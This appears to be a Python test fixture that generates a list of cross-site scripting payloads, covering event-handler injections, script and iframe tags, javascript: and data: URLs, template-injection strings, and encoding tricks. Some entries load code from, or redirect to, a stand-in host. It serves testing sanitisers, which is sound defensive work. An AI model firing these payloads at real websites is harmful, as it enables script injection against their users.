"""Texts that would run as a program, if a page ever took one for markup."""

from __future__ import annotations

from itertools import product

_SHAPES = (
    "<img src=x on{event}={call}>",
    "<svg on{event}={call}>",
    "<body on{event}={call}>",
    "<details open on{event}={call}>",
    "<input autofocus on{event}={call}>",
    '"><b on{event}="{call}" autofocus tabindex=1>',
    "' on{event}='{call}' x='",
    "<style>@keyframes x{{}}</style><i style='animation-name:x' on{event}={call}></i>",
)
_EVENTS = ("error", "load", "focus", "toggle", "animationstart", "pointerover")
_CALLS = ("alert(1)", "alert`1`", "window.hacked=1")
_OTHERS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//example.org/x.js></sCrIpT>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<base href=http://example.org/>",
    "<meta http-equiv=refresh content='0;url=http://example.org/'>",
    "<link rel=stylesheet href=http://example.org/x.css>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "{@html '<img src=x onerror=alert(1)>'}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\u202e<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)\x00>",
    "\ud83d\udca9".encode("utf-16", "surrogatepass").decode("utf-16") + "<svg/onload=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
)

PAYLOADS = (
    *(shape.format(event=event, call=call) for shape, event, call in product(_SHAPES, _EVENTS, _CALLS)),
    *_OTHERS,
)
